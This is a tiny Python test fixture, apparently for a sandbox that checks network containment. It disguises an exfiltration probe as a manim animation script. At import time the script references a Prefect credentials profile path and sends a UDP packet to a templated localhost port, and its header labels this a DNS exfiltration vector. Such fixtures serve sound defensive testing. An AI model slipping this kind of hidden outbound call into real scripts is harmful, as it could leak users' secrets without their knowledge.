# expect: contained; canary: net; vector: UDP (DNS exfiltration)
from manim import *

C = "@CANARY@"
SECRET = C + "/home/.prefect/profiles.toml"
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", @UDP_PORT@))


class Main(Scene):
    def construct(self):
        self.add(Dot())
        self.wait(0.1)
